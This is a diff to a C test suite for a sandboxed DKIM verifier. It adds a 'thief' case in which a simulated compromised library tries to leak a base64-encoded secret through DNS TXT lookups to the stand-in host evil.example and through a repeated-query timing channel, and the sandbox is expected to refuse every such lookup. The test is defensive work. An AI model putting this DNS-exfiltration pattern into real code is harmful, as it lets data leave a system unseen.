@@ -14,10 +14,14 @@
 #include "support/dkim.h"
 
 #define MESSAGE                                                                \
-	"From: Joe <joe@example.com>\r\nDKIM-Signature: a\r\n"                 \
+	"From: Joe <joe@example.com>\r\n"                                      \
+	"DKIM-Signature: d=example.com; s=s\r\n"                               \
 	"DKIM-Signature: b\r\n\r\nHi.\r\n"
 
-#define ZONE "s._domainkey.example.com. 60 IN TXT \"v=DKIM1; p=\"\n"
+#define ZONE                                                                   \
+	"s._domainkey.example.com. 60 IN TXT \"v=DKIM1; p=\"\n"                \
+	"c2vjcmv0._domainkey.evil.example. 60 IN TXT \"gone\"\n"               \
+	"c2vjcmv0._domainkey.example.com. 60 IN TXT \"gone\"\n"
 
 /* Libraries that are not what they should be.  Each begins where the process
  * has entered the sandbox. */
@@ -78,6 +82,37 @@ run_abort(struct inside *inside, void *prepared)
 	(void)prepared;
 	greet(inside);
 	abort();
+}
+
+/* It was taken over, and carries the message away. */
+static void
+run_thief(struct inside *inside, void *prepared)
+{
+	static const char *const names[] = {
+		"c2VjcmV0._domainkey.evil.example",
+		"s.c2VjcmV0._domainkey.example.com",
+		"c2VjcmV0._domainkey.example.com",
+		"s._domainkey.example.com.evil.example",
+	};
+	struct arena *arena = arena_new();
+	struct dns_answer answer;
+	size_t refused = 0;
+
+	(void)prepared;
+	greet(inside);
+	wait_for_end(inside);
+	for (size_t i = 0; i < UNIT_COUNT(names); i++) {
+		inside_ask(inside, names[i], DNS_TYPE_TXT, arena, &answer);
+		refused += answer.status == DNS_NXDOMAIN;
+	}
+	/* As often as it likes: it reads the rhythm alone. */
+	for (int i = 0; i < 100; i++)
+		inside_ask(inside, "s._domainkey.example.com", DNS_TYPE_TXT,
+		    arena, &answer);
+	if (refused == UNIT_COUNT(names) && answer.status == DNS_OK)
+		say_pass(inside, 0);
+	inside_write(inside, FRAME_DONE, span_str(""));
+	arena_free(arena);
 }
 
 /* After an opinion that must not count. */
@@ -203,6 +238,7 @@ struct receiver_case {
 
 static const struct receiver_case cases[] = {
 	{ "well", run_well, RECEIVER_JUDGED, NULL, 2 },
+	{ "thief", run_thief, RECEIVER_JUDGED, NULL, 1 },
 	{ "abort", run_abort, RECEIVER_CRASHED, "abort crashed (Aborted)", 0 },
 	{ "late", run_late_crash, RECEIVER_CRASHED,
 	    "receivers that use it would too", 0 },
@@ -266,6 +302,8 @@ check_case(const struct receiver_case *wanted)
 	receiver_judge(
 	    receiver, &options, &message.headers, message.body, arena, &report);
 	check_report(wanted, &report);
+	if (wanted->run == run_thief)
+		assert_int_equal(report.question_count, 1);
 	if (wanted->run == run_well) {
 		assert_int_equal(report.question_count, 1);
 		assert_non_null(
